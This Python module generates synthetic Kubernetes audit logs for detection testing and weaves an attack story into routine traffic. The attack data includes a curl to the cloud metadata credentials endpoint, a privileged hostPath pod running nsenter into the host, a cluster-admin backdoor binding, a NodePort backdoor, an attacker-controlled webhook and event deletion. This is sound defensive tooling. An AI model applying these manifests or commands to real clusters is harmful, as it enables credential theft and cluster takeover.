"""Generate a realistic, deterministic cluster day of audit.k8s.io/v1 events, in any envelope and compression.

The background traffic is what a real API server logs all day (kubelets renewing leases, controllers
listing and watching, probes hitting /healthz anonymously, the replicaset-controller creating pods,
people with kubectl, CI service accounts). A fixed attack story is woven into it (a scanner, anonymous
access, a stolen developer account that lists secrets, execs into pods and curls the cloud metadata
endpoint, privileged and hostPath pods, a cluster-admin binding, token requests, impersonation, a
NodePort backdoor, a webhook, deleted events), so hunting queries have something to find.

Events are rendered from JSON templates with str.format, never json.dumps per event, and produced
in time-ordered blocks, so 10M events stream to a file in bounded memory. The `gke` format writes each
event as the Cloud Logging LogEntry GKE would write for it (gke_entry), which tests use on any Event.
"""

from __future__ import annotations

import bz2
import json
import zlib
from collections.abc import Callable, Iterable, Iterator
from datetime import datetime, timedelta, timezone
from typing import Any, BinaryIO

import numpy as np
import orjson
import zstandard

FORMATS = ("jsonl", "eventlist", "array", "fluentbit", "fluentbit-string", "cloudwatch", "azure", "gke")
COMPRESSIONS = ("none", "gzip", "zstd", "bzip2")
BLOCK = 20_000          # events rendered at a time
BATCH = 100             # events per EventList / array / CloudWatch / Azure record
DAY_US = 86_400_000_000

_V = "@@"  # placeholder marker inside templates: "@@name@@" becomes {name}


def _template(event: dict) -> str:
    """A str.format template of an event: its compact JSON with each "@@name@@" string turned into "{name}"."""
    parts = json.dumps(event, separators=(",", ":")).replace("{", "{{").replace("}", "}}").split(_V)
    return "".join("{" + part + "}" if i % 2 else part for i, part in enumerate(parts))


def _f(name: str) -> str:
    return f"{_V}{name}{_V}"


NODES = [f"ip-10-0-{i // 8}-{10 + i}.ec2.internal" for i in range(24)]
NODE_IPS = [f"10.0.{i // 8}.{10 + i}" for i in range(24)]
APPS = ["checkout", "cart", "payments", "catalog", "search", "frontend", "auth", "orders"]
NAMESPACES = ["shop", "shop", "payments", "platform", "monitoring"]
USERS = ["alice@example.com", "bob@example.com", "carol@example.com", "dave@example.com"]
KUBECTL = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"
KUBELET = "kubelet/v1.29.3 (linux/amd64) kubernetes/6813625"
KCM = "kube-controller-manager/v1.29.3 (linux/amd64) kubernetes/6813625/{}"
ALLOW = {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}


def _event(verb: str, uri: str, user: dict, ua: str, code: int, *, ip: str = _f("ip"), obj: dict | None = None,
           level: str = "Metadata", stage: str = "ResponseComplete", annotations: dict | None = None,
           **extra) -> dict:
    e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": _f("aid"), "stage": stage,
         "requestURI": uri, "verb": verb, "user": user, "sourceIPs": [ip], "userAgent": ua}
    if obj is not None:
        e["objectRef"] = obj
    e["responseStatus"] = {"metadata": {}, "code": code}
    e.update(extra)
    e["requestReceivedTimestamp"] = _f("t0")
    e["stageTimestamp"] = _f("t1")
    e["annotations"] = annotations if annotations is not None else ALLOW
    return e


def _ref(resource: str, namespace: str = "", name: str = "", group: str = "", version: str = "v1",
         sub: str = "") -> dict:
    r = {"resource": resource}
    if namespace:
        r["namespace"] = namespace
    if name:
        r["name"] = name
    if group:
        r["apiGroup"] = group
    r["apiVersion"] = version
    if sub:
        r["subresource"] = sub
    return r


def _path(resource: str, namespace: str = "", name: str = "", group: str = "", version: str = "v1",
          sub: str = "", query: str = "") -> str:
    parts = ["/api/v1"] if not group else [f"/apis/{group}/{version}"]
    if namespace:
        parts.append(f"namespaces/{namespace}")
    parts.append(resource)
    if name:
        parts.append(name)
    if sub:
        parts.append(sub)
    return "/".join(parts) + (f"?{query}" if query else "")


def _node_user() -> dict:
    return {"username": "system:node:" + _f("node"), "groups": ["system:nodes", "system:authenticated"]}


def _sa(ns: str, name: str) -> dict:
    return {"username": f"system:serviceaccount:{ns}:{name}", "uid": _f("uid"),
            "groups": ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"]}


def _human(name: str = _f("user")) -> dict:
    return {"username": name, "groups": ["developers", "system:authenticated"],
            "extra": {"authentication.kubernetes.io/credential-id": ["JTI=" + _f("uid")]}}


SYSTEM = lambda name: {"username": name, "groups": ["system:authenticated"]}  # noqa: E731
ANON = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}


def _pod(name: str, ns: str, image: str, **spec) -> dict:
    return {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns},
            "spec": {"containers": [{"name": name.split("-")[0], "image": image, **spec.pop("container", {})}],
                     **spec}}


# -- background traffic: (weight, template, variables) -------------------------------------------------
def _background() -> list[tuple[float, dict, Callable[[np.random.Generator, int], dict[str, list]]]]:
    def node(rng, n):
        i = rng.integers(0, len(NODES), n)
        return {"node": [NODES[j] for j in i], "ip": [NODE_IPS[j] for j in i]}

    def ctrl(rng, n):
        return {"ip": ["10.0.0.5"] * n, "uid": ["0c6f3b2a-91d4-4e57-b8a2-3f1e5d7c9b10"] * n}

    def app(rng, n):
        i = rng.integers(0, len(APPS), n)
        k = rng.integers(0, 1 << 40, n)
        return {"app": [APPS[j] for j in i], "ns": [NAMESPACES[j % len(NAMESPACES)] for j in i],
                "pod": [f"{APPS[j]}-{h & 0xfffffffff:09x}-{h >> 36:05x}" for j, h in zip(i, k)],
                "uid": [f"{h:012x}" for h in k], "ip": ["10.0.0.5"] * n}

    def probe(rng, n):
        return {"ip": [NODE_IPS[j] for j in rng.integers(0, len(NODE_IPS), n)]}

    def human(rng, n):
        i = rng.integers(0, len(USERS), n)
        a = rng.integers(0, len(APPS), n)
        return {"user": [USERS[j] for j in i], "ip": [f"192.168.10.{20 + j}" for j in i],
                "ns": [NAMESPACES[j % len(NAMESPACES)] for j in a], "app": [APPS[j] for j in a],
                "uid": [f"{j:08x}-2b1c-4f7e-9d0a-5c3e8f1a{j:04x}" for j in i]}

    def ci(rng, n):
        a = rng.integers(0, len(APPS), n)
        return {"app": [APPS[j] for j in a], "ns": [NAMESPACES[j % len(NAMESPACES)] for j in a],
                "ip": ["10.20.0.8"] * n, "uid": ["7d2c1f0e-5a44-4a8e-9f3b-ci0000deploy"] * n}

    lease = _ref("leases", "kube-node-lease", _f("node"), "coordination.k8s.io")
    return [
        (30, _event("update", _path("leases", "kube-node-lease", _f("node"), "coordination.k8s.io"), _node_user(),
                    KUBELET, 200, obj=lease), node),
        (8, _event("get", _path("nodes", name=_f("node")), _node_user(), KUBELET, 200,
                   obj=_ref("nodes", name=_f("node"))), node),
        (6, _event("patch", _path("nodes", name=_f("node"), sub="status"), _node_user(), KUBELET, 200,
                   obj=_ref("nodes", name=_f("node"), sub="status")), node),
        (5, _event("watch", "/api/v1/pods?allowWatchBookmarks=true&resourceVersion=88231&watch=true",
                   SYSTEM("system:kube-controller-manager"), KCM.format("shared-informers"), 200,
                   obj=_ref("pods")), ctrl),
        (5, _event("list", "/apis/discovery.k8s.io/v1/endpointslices?limit=500",
                   SYSTEM("system:kube-controller-manager"), KCM.format("shared-informers"), 200,
                   obj=_ref("endpointslices", group="discovery.k8s.io")), ctrl),
        (6, _event("update", _path("leases", "kube-system", "kube-scheduler", "coordination.k8s.io"),
                   SYSTEM("system:kube-scheduler"), "kube-scheduler/v1.29.3 (linux/amd64) kubernetes/6813625/leader-election",
                   200, obj=_ref("leases", "kube-system", "kube-scheduler", "coordination.k8s.io")), ctrl),
        (4, _event("watch", "/api/v1/services?allowWatchBookmarks=true&watch=true",
                   _sa("kube-system", "coredns"), "coredns/v1.11.1 (linux/amd64)", 200, obj=_ref("services")), ctrl),
        (12, _event("get", "/healthz", ANON, "kube-probe/1.29", 200,
                    annotations={"authorization.k8s.io/decision": "allow",
                                 "authorization.k8s.io/reason": 'RBAC: allowed by ClusterRoleBinding "system:public-info-viewer" of ClusterRole "system:public-info-viewer" to Group "system:unauthenticated"'}),
         probe),
        (4, _event("get", "/readyz", ANON, "kube-probe/1.29", 200), probe),
        (1, _event("create", _path("pods", _f("ns")), _sa("kube-system", "replicaset-controller"),
                   KCM.format("system:serviceaccount:kube-system:replicaset-controller"), 201,
                   obj=_ref("pods", _f("ns"), _f("pod")), level="Request",
                   requestObject=_pod(_f("pod"), _f("ns"), f"registry.example.com/shop/{_f('app')}:1.42.0")), app),
        (2, _event("get", _path("pods", _f("ns"), _f("pod")), _sa("kube-system", "replicaset-controller"),
                   KCM.format("system:serviceaccount:kube-system:replicaset-controller"), 200,
                   obj=_ref("pods", _f("ns"), _f("pod"))), app),
        (2, _event("list", _path("pods", _f("ns"), query="limit=500"), _human(), KUBECTL, 200,
                   obj=_ref("pods", _f("ns"))), human),
        (1, _event("get", _path("deployments", _f("ns"), _f("app"), "apps"), _human(), KUBECTL, 200,
                   obj=_ref("deployments", _f("ns"), _f("app"), "apps")), human),
        (1, _event("get", _path("pods", _f("ns"), _f("app") + "-0", sub="log"), _human(), KUBECTL, 200,
                   obj=_ref("pods", _f("ns"), _f("app") + "-0", sub="log")), human),
        (1, _event("patch", _path("deployments", _f("ns"), _f("app"), "apps", query="fieldManager=argocd"),
                   _sa("ci", "deployer"), "argocd-application-controller/v2.10.4", 200,
                   obj=_ref("deployments", _f("ns"), _f("app"), "apps"), level="Request",
                   requestObject={"spec": {"template": {"spec": {"containers": [
                       {"name": _f("app"), "image": f"registry.example.com/shop/{_f('app')}:1.43.0"}]}}}}), ci),
        (1, _event("get", _path("configmaps", _f("ns"), _f("app") + "-config"), _sa("ci", "deployer"),
                   "argocd-application-controller/v2.10.4", 200,
                   obj=_ref("configmaps", _f("ns"), _f("app") + "-config")), ci),
    ]


# -- the attack story: (fraction of the day, template, variables) -----------------------------------------
ATTACKER_IP = "198.51.100.77"
SCANNER_IP = "203.0.113.45"
STOLEN = "dave@example.com"
FORBID = {"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": ""}


def _attacks() -> list[tuple[float, dict]]:
    dave = {"username": STOLEN, "groups": ["developers", "system:authenticated"],
            "extra": {"authentication.kubernetes.io/credential-id": ["JTI=3f0d6c1e-77aa-4c55-9e0b-stolen000001"]}}
    scan = [(0.12 + i * 0.0004, _event(verb, uri, ANON, ua, code, ip=SCANNER_IP, obj=ref,
                                       annotations=FORBID if code == 403 else ALLOW))
            for i, (verb, uri, ua, code, ref) in enumerate([
                ("get", "/version", "kube-hunter", 200, None),
                ("get", "/api", "kube-hunter", 200, None),
                ("list", "/api/v1/namespaces/kube-system/secrets", "kube-hunter", 403, _ref("secrets", "kube-system")),
                ("list", "/api/v1/pods", "kubiscan/1.6", 403, _ref("pods")),
                ("get", "/apis", "Mozilla/5.0 zgrab/0.x", 200, None),
                ("list", "/api/v1/namespaces/default/pods", "python-requests/2.31.0", 200, _ref("pods", "default")),
            ])]
    exec_shell = _path("pods", "shop", "checkout-7d9f8b6c5-x2k4q", sub="exec",
                       query="command=sh&container=checkout&stdin=true&stdout=true&tty=true")
    exec_curl = _path("pods", "shop", "checkout-7d9f8b6c5-x2k4q", sub="exec",
                      query="command=curl&command=-s&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F"
                            "&container=checkout&stdout=true")
    priv = _pod("debug-node-0", "kube-system", "alpine:3.19", hostPID=True, hostNetwork=True,
                container={"securityContext": {"privileged": True}, "command": ["nsenter", "-t", "1", "-m", "sh"],
                           "volumeMounts": [{"name": "host", "mountPath": "/host"}]},
                volumes=[{"name": "host", "hostPath": {"path": "/"}}])
    crb = {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
           "metadata": {"name": "system-monitoring-admin"},
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
           "subjects": [{"kind": "ServiceAccount", "name": "backdoor", "namespace": "kube-system"}]}
    svc = {"kind": "Service", "apiVersion": "v1", "metadata": {"name": "metrics-debug", "namespace": "kube-system"},
           "spec": {"type": "NodePort", "selector": {"app": "debug-node"},
                    "ports": [{"port": 4444, "targetPort": 4444, "nodePort": 31337}]}}
    hook = {"kind": "MutatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
            "metadata": {"name": "pod-policy.example.io"},
            "webhooks": [{"name": "pod-policy.example.io", "clientConfig": {"url": "https://198.51.100.77:8443/mutate"},
                          "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"],
                                     "resources": ["pods"]}], "sideEffects": "None",
                          "admissionReviewVersions": ["v1"]}]}
    secret = {"kind": "Secret", "apiVersion": "v1", "metadata": {"name": "backdoor-token", "namespace": "kube-system"},
              "stringData": {"token": "s3cr3t-backdoor-token-value"}, "type": "Opaque"}
    backdoor = {"username": "system:serviceaccount:kube-system:backdoor", "uid": "5b1e7f3a-0c2d-4e9f-8a6b-backdoor0001",
                "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]}
    a: dict[str, Any] = dict(ip=ATTACKER_IP)
    story = [
        (0.30, _event("get", "/api/v1/namespaces/default/pods", ANON, "curl/8.5.0", 200, obj=_ref("pods", "default"), **a)),
        (0.51, _event("list", "/api/v1/secrets?limit=500", dave, KUBECTL, 200, obj=_ref("secrets"), **a)),
        (0.511, _event("list", "/api/v1/namespaces/kube-system/secrets", dave, KUBECTL, 200,
                       obj=_ref("secrets", "kube-system"), **a)),
        (0.512, _event("get", _path("secrets", "payments", "stripe-api-key"), dave, KUBECTL, 200,
                       obj=_ref("secrets", "payments", "stripe-api-key"), **a)),
        (0.52, _event("list", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", dave, KUBECTL, 403,
                      obj=_ref("clusterrolebindings", group="rbac.authorization.k8s.io"), annotations=FORBID, **a)),
        (0.53, _event("create", exec_shell, dave, KUBECTL, 101, obj=_ref("pods", "shop", "checkout-7d9f8b6c5-x2k4q", sub="exec"),
                      stage="ResponseStarted", **a)),
        (0.531, _event("create", exec_curl, dave, KUBECTL, 101, obj=_ref("pods", "shop", "checkout-7d9f8b6c5-x2k4q", sub="exec"),
                       stage="ResponseStarted", **a)),
        (0.54, _event("create", "/api/v1/namespaces/kube-system/pods", dave, KUBECTL, 201,
                      obj=_ref("pods", "kube-system", "debug-node-0"), level="Request", requestObject=priv, **a)),
        (0.541, _event("create", _path("pods", "kube-system", "debug-node-0", sub="exec", query="command=sh&stdin=true&tty=true"),
                       dave, KUBECTL, 101, obj=_ref("pods", "kube-system", "debug-node-0", sub="exec"),
                       stage="ResponseStarted", **a)),
        (0.55, _event("create", "/api/v1/namespaces/kube-system/serviceaccounts", dave, KUBECTL, 201,
                      obj=_ref("serviceaccounts", "kube-system", "backdoor"), **a)),
        (0.551, _event("create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", dave, KUBECTL, 201,
                       obj=_ref("clusterrolebindings", name="system-monitoring-admin", group="rbac.authorization.k8s.io"),
                       level="RequestResponse", requestObject=crb, responseObject=crb, **a)),
        (0.552, _event("create", _path("serviceaccounts", "kube-system", "backdoor", sub="token"), dave, KUBECTL, 201,
                       obj=_ref("serviceaccounts", "kube-system", "backdoor", sub="token"), **a)),
        (0.553, _event("create", "/api/v1/namespaces/kube-system/secrets", dave, KUBECTL, 201,
                       obj=_ref("secrets", "kube-system", "backdoor-token"), level="Request", requestObject=secret, **a)),
        (0.56, _event("list", "/api/v1/secrets", backdoor, "Go-http-client/2.0", 200, obj=_ref("secrets"), **a)),
        (0.561, _event("get", "/api/v1/namespaces/payments/secrets/db-credentials", dave, KUBECTL, 200,
                       obj=_ref("secrets", "payments", "db-credentials"), **a,
                       impersonatedUser={"username": "system:admin", "groups": ["system:masters"]})),
        (0.57, _event("create", "/api/v1/namespaces/kube-system/services", backdoor, "Go-http-client/2.0", 201,
                      obj=_ref("services", "kube-system", "metrics-debug"), level="Request", requestObject=svc, **a)),
        (0.58, _event("create", "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations", backdoor,
                      "Go-http-client/2.0", 201,
                      obj=_ref("mutatingwebhookconfigurations", name="pod-policy.example.io",
                               group="admissionregistration.k8s.io"), level="Request", requestObject=hook, **a)),
        (0.59, _event("deletecollection", "/api/v1/namespaces/kube-system/events", backdoor, "Go-http-client/2.0", 200,
                      obj=_ref("events", "kube-system"), **a)),
        (0.591, _event("delete", "/apis/events.k8s.io/v1/namespaces/shop/events/checkout-7d9f8b6c5-x2k4q.17b2",
                       backdoor, "Go-http-client/2.0", 200,
                       obj=_ref("events", "shop", "checkout-7d9f8b6c5-x2k4q.17b2", "events.k8s.io"), **a)),
    ]
    return sorted(scan + story, key=lambda x: x[0])


class _Stamps:
    """Fast RFC 3339 microsecond timestamps for one day: the second's prefix is formatted once."""

    def __init__(self, day: datetime):
        self.day = day
        self._prefix: dict[int, str] = {}

    def __call__(self, us: int) -> str:
        s, frac = divmod(us, 1_000_000)
        p = self._prefix.get(s)
        if p is None:
            p = self._prefix[s] = (self.day + timedelta(seconds=s)).strftime("%Y-%m-%dT%H:%M:%S")
        return f"{p}.{frac:06d}Z"


def default_day() -> datetime:
    """Yesterday, UTC midnight: recent enough that a default TTL keeps the events."""
    now = datetime.now(timezone.utc)
    return datetime(now.year, now.month, now.day, tzinfo=timezone.utc) - timedelta(days=1)


def attack_count(n: int) -> int:
    return min(n, len(_attacks()))


def events(n: int, seed: int = 0, day: datetime | None = None) -> Iterator[bytes]:
    """n events (JSON, one line each, no newline) spread over the day in time order; the same
    (n, seed, day) always gives the same bytes."""
    stamps = _Stamps(day or default_day())
    background = [(_template(t), make) for _, t, make in _background()]
    weights = np.array([w for w, _, _ in _background()], dtype=float)
    story = [(int(f * DAY_US), _template(t)) for f, t in _attacks()][:n]
    fill = n - len(story)
    blocks = max(1, -(-fill // BLOCK))
    for b in range(blocks):
        rng = np.random.default_rng([seed, b])
        size = fill // blocks + (1 if b < fill % blocks else 0)
        lo, hi = b * DAY_US // blocks, (b + 1) * DAY_US // blocks
        kinds = rng.choice(len(background), size, p=weights / weights.sum())
        fields, rank = [], np.zeros(size, dtype=np.int64)
        for k, (_, make) in enumerate(background):
            where = np.flatnonzero(kinds == k)
            rank[where] = np.arange(len(where))
            fields.append(make(rng, len(where)))
        todo = [(t, background[k][0], fields[k], j, 2_000 + lat)
                for t, k, j, lat in zip(np.sort(rng.integers(lo, hi, size)).tolist(), kinds.tolist(), rank.tolist(),
                                        rng.integers(0, 30_000, size).tolist())]
        mine: list[tuple[int, str, dict[str, Any], int, int]] = [(t, tpl, {}, 0, 15_000) for t, tpl in story if lo <= t < hi]
        if mine:
            todo = sorted(todo + mine, key=lambda x: x[0])
        ids = rng.integers(0, 1 << 63, (len(todo), 2)).tolist()
        for (t, template, values, j, latency), (x, y) in zip(todo, ids):
            u = f"{x:016x}{y:016x}"
            yield template.format(**{name: column[j] for name, column in values.items()},
                                  aid=f"{u[:8]}-{u[8:12]}-4{u[13:16]}-a{u[17:20]}-{u[20:32]}",
                                  t0=stamps(t), t1=stamps(t + latency)).encode()


# -- envelopes: each turns event lines into the bytes a shipper would write ------------------------------
def _batches(lines: Iterable[bytes], size: int = BATCH) -> Iterator[list[bytes]]:
    batch: list[bytes] = []
    for line in lines:
        batch.append(line)
        if len(batch) == size:
            yield batch
            batch = []
    if batch:
        yield batch


def _jsonl(lines: Iterable[bytes]) -> Iterator[bytes]:
    for batch in _batches(lines, BLOCK):
        yield b"\n".join(batch) + b"\n"


def _eventlist(lines: Iterable[bytes]) -> Iterator[bytes]:
    """One EventList per line, as the audit webhook backend posts them."""
    for batch in _batches(lines):
        yield b'{"kind":"EventList","apiVersion":"audit.k8s.io/v1","metadata":{},"items":[' + b",".join(batch) + b"]}\n"


def _array(lines: Iterable[bytes]) -> Iterator[bytes]:
    for batch in _batches(lines):
        yield b"[" + b",".join(batch) + b"]\n"


def _stamp(line: bytes) -> str:
    at = line.index(b'"stageTimestamp":"') + 18
    return line[at:at + 27].decode()


_K8S = (b'"kubernetes":{"pod_name":"kube-apiserver-ip-10-0-0-5.ec2.internal","namespace_name":"kube-system",'
        b'"pod_id":"0f7c2a9e-3d41-4b8a-9e6f-1a2b3c4d5e6f","labels":{"component":"kube-apiserver","tier":"control-plane"},'
        b'"host":"ip-10-0-0-5.ec2.internal","container_name":"kube-apiserver",'
        b'"docker_id":"3f9a1c7e5b2d4f6a8c0e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a",'
        b'"container_hash":"registry.k8s.io/kube-apiserver@sha256:5b28a364467cf7e134343bb3ee2c6d40682b473a743a72142c7bbe25767d36eb",'
        b'"container_image":"registry.k8s.io/kube-apiserver:v1.29.3"}')


def _epoch(stamp: str) -> float:
    return datetime.fromisoformat(stamp.replace("Z", "+00:00")).timestamp()


def _fluentbit(lines: Iterable[bytes]) -> Iterator[bytes]:
    """Fluent Bit with Merge_Log: the event's fields at the top level next to date, stream, time, kubernetes."""
    for batch in _batches(lines, 1000):
        out = []
        for line in batch:
            t = _stamp(line)
            out.append(b'{"date":%.6f,"stream":"stdout","time":"%s",%s,%s\n'
                       % (_epoch(t), t.encode(), _K8S, line[1:]))
        yield b"".join(out)


def _fluentbit_string(lines: Iterable[bytes]) -> Iterator[bytes]:
    """Fluent Bit without Merge_Log: the event as a JSON string in `log`."""
    for batch in _batches(lines, 1000):
        out = []
        for line in batch:
            t = _stamp(line)
            out.append(b'{"date":%.6f,"log":%s,"stream":"stdout","time":"%s",%s}\n'
                       % (_epoch(t), json.dumps(line.decode() + "\n").encode(), t.encode(), _K8S))
        yield b"".join(out)


def _cloudwatch(lines: Iterable[bytes]) -> Iterator[bytes]:
    """EKS control-plane logs via a CloudWatch Logs subscription and Firehose: DATA_MESSAGE objects
    concatenated without separators, each one its own gzip member (see compress(..., 'gzip'))."""
    for n, batch in enumerate(_batches(lines)):
        events = ",".join('{"id":"%d","timestamp":%d,"message":%s}'
                          % (n * BATCH + i, int(_epoch(_stamp(line)) * 1000), json.dumps(line.decode()))
                          for i, line in enumerate(batch))
        yield ('{"messageType":"DATA_MESSAGE","owner":"111122223333","logGroup":"/aws/eks/prod-eu/cluster",'
               '"logStream":"kube-apiserver-audit-0f7c2a9e3d414b8a9e6f1a2b3c4d5e6f","subscriptionFilters":["audit"],'
               '"logEvents":[' + events + "]}").encode()


def _azure(lines: Iterable[bytes]) -> Iterator[bytes]:
    """AKS diagnostic settings to a storage account / Event Hubs: a `records` array per line."""
    rid = "/SUBSCRIPTIONS/0000AAAA-1111-BBBB-2222-CCCC3333DDDD/RESOURCEGROUPS/PROD/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/PROD-WEU"
    for batch in _batches(lines):
        records = ",".join(json.dumps({"category": "kube-audit", "operationName":
                                       "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
                                       "resourceId": rid, "time": _stamp(line),
                                       "properties": {"log": line.decode(), "stream": "stdout",
                                                      "pod": "kube-apiserver-7c9f8d6b5-qwxyz"}})
                           for line in batch)
        yield ('{"records":[' + records + "]}\n").encode()


# -- GKE: the Cloud Logging LogEntry (protoPayload: a google.cloud.audit.AuditLog) GKE writes for an event ---------
GKE_PROJECT = "shop-prod-4821"
GKE_LOCATION = "europe-west1"
GKE_CLUSTER = "prod-euw1"
# the google.rpc.Code GKE logs for a failed request's HTTP status (google/rpc/code.proto); any other is 2, UNKNOWN
GRPC_CODES = {400: 3, 401: 16, 403: 7, 404: 5, 409: 6, 422: 3, 429: 8, 499: 1, 500: 13, 501: 12, 503: 14, 504: 4}
GRPC_NAMES = {1: "CANCELLED", 2: "UNKNOWN", 3: "INVALID_ARGUMENT", 4: "DEADLINE_EXCEEDED", 5: "NOT_FOUND",
              6: "ALREADY_EXISTS", 7: "PERMISSION_DENIED", 8: "RESOURCE_EXHAUSTED", 12: "UNIMPLEMENTED",
              13: "INTERNAL", 14: "UNAVAILABLE", 16: "UNAUTHENTICATED"}


def _gke_group(group: str) -> list[str]:
    """The group as methodName writes it: reversed, without .k8s.io (rbac.authorization.k8s.io -> authorization.rbac)."""
    if not group:
        return ["core"]
    return list(reversed(group.removesuffix(".k8s.io").split(".")))


def _gke_body(body: Any) -> Any:
    """A body as GKE logs it: "@type" GROUP/VERSION.KIND first (core.k8s.io for the core group), or k8s.io/Patch."""
    if not isinstance(body, dict):
        return body
    version, kind = body.get("apiVersion", ""), body.get("kind", "")
    if version and kind:
        at_type = f"core.k8s.io/{version}.{kind}" if "/" not in version else f"{version}.{kind}"
    else:
        at_type = "k8s.io/Patch"
    return {"@type": at_type, **body}


def gke_entry(event: dict, project: str = GKE_PROJECT, location: str = GKE_LOCATION,
              cluster: str = GKE_CLUSTER) -> dict:
    """The LogEntry GKE writes for an audit Event. What GKE does not log is lost: user groups, uid and extra,
    impersonation, every sourceIP but the first, the query string, stageTimestamp."""
    ref = event.get("objectRef") or {}
    verb = event.get("verb", "")
    if ref.get("resource"):
        group, version = ref.get("apiGroup") or "", ref.get("apiVersion") or "v1"
        sub = ref.get("subresource") or ""
        scope = ["namespaces", ref["namespace"]] if ref.get("namespace") and ref["resource"] != "namespaces" else []
        path = [group or "core", version, *scope, ref["resource"], *(x for x in (ref.get("name"), sub) if x)]
        resource_name = "/".join(path)
        method = ".".join(["io.k8s", *_gke_group(group), version, ref["resource"], *([sub] if sub else []), verb])
    else:
        resource_name = event.get("requestURI", "").split("?")[0].lstrip("/")
        method = f"io.k8s.{verb}"
    status = event.get("responseStatus") or {}
    code = status.get("code") or 0
    grpc = 0 if code < 400 else GRPC_CODES.get(code, 2)
    audit_id = event.get("auditID", "")
    when = event.get("requestReceivedTimestamp") or event.get("stageTimestamp") or event.get("timestamp") or ""
    ips = event.get("sourceIPs") or []
    payload: dict[str, Any] = {
        "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
        "authenticationInfo": {"principalEmail": (event.get("user") or {}).get("username", "")},
        "authorizationInfo": [{"granted": (event.get("annotations") or {}).get("authorization.k8s.io/decision") == "allow",
                               "permission": method, "resource": resource_name}],
        "methodName": method,
        "requestMetadata": {**({"callerIp": ips[0]} if ips else {}),
                            "callerSuppliedUserAgent": event.get("userAgent", "")},
        "resourceName": resource_name,
        "serviceName": "k8s.io",
        "status": {"code": grpc, "message": status.get("message") or GRPC_NAMES.get(grpc, "UNKNOWN")} if grpc else {},
    }
    if "requestObject" in event:
        payload["request"] = _gke_body(event["requestObject"])
    if "responseObject" in event:
        payload["response"] = _gke_body(event["responseObject"])
    read = verb in ("get", "list", "watch")
    operation = {"first": True, "id": audit_id, "producer": "k8s.io"}
    if event.get("stage") != "ResponseStarted":
        operation["last"] = True
    entry: dict[str, Any] = {
        "insertId": audit_id,
        "labels": event.get("annotations") or {},
        "logName": f"projects/{project}/logs/cloudaudit.googleapis.com%2F{'data_access' if read else 'activity'}",
        "operation": operation,
        "protoPayload": payload,
        "receiveTimestamp": when,
        "resource": {"labels": {"cluster_name": cluster, "location": location, "project_id": project}, "type": "k8s_cluster"},
        "severity": "INFO" if read else "NOTICE",
        "timestamp": when,
    }
    if when:
        try:
            received = datetime.fromisoformat(when.replace("Z", "+00:00")) + timedelta(seconds=4, microseconds=212_000)
            entry["receiveTimestamp"] = received.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        except ValueError:
            pass
    return entry


def _gke(lines: Iterable[bytes]) -> Iterator[bytes]:
    """GKE through a Cloud Storage log sink: one LogEntry per line, as the hourly objects hold them."""
    for batch in _batches(lines, 1000):
        yield b"".join(orjson.dumps(gke_entry(orjson.loads(line))) + b"\n" for line in batch)


WRITERS: dict[str, Callable[[Iterable[bytes]], Iterator[bytes]]] = {
    "jsonl": _jsonl, "eventlist": _eventlist, "array": _array, "fluentbit": _fluentbit,
    "fluentbit-string": _fluentbit_string, "cloudwatch": _cloudwatch, "azure": _azure, "gke": _gke}


def compress(pieces: Iterable[bytes], compression: str) -> Iterator[bytes]:
    """Compress a stream of byte pieces; gzip writes one member per piece (multi-member, as Firehose does)."""
    if compression == "none":
        yield from pieces
    elif compression == "gzip":
        for piece in pieces:
            z = zlib.compressobj(1, zlib.DEFLATED, 31)
            yield z.compress(piece) + z.flush()
    elif compression in ("zstd", "bzip2"):
        c = zstandard.ZstdCompressor(level=3).compressobj() if compression == "zstd" else bz2.BZ2Compressor(9)
        for piece in pieces:
            if out := c.compress(piece):
                yield out
        yield c.flush()
    else:
        raise ValueError(f"unknown compression {compression!r}; one of {', '.join(COMPRESSIONS)}")


def encode(lines: Iterable[bytes], fmt: str = "jsonl", compression: str = "none") -> Iterator[bytes]:
    """Event lines in an envelope and a compression, as byte pieces to write or upload."""
    if fmt not in WRITERS:
        raise ValueError(f"unknown format {fmt!r}; one of {', '.join(FORMATS)}")
    return compress(WRITERS[fmt](lines), compression)


def write(out: BinaryIO, n: int, fmt: str = "jsonl", compression: str = "none", seed: int = 0,
          day: datetime | None = None, on_events: Callable[[int], None] | None = None) -> int:
    """Stream n generated events to out; return the bytes written."""
    def counted(lines: Iterator[bytes]) -> Iterator[bytes]:
        for i, line in enumerate(lines, 1):
            yield line
            if on_events and i % 10_000 == 0:
                on_events(10_000)
        if on_events:
            on_events(n % 10_000)

    size = 0
    for piece in encode(counted(events(n, seed, day)), fmt, compression):
        out.write(piece)
        size += len(piece)
    return size
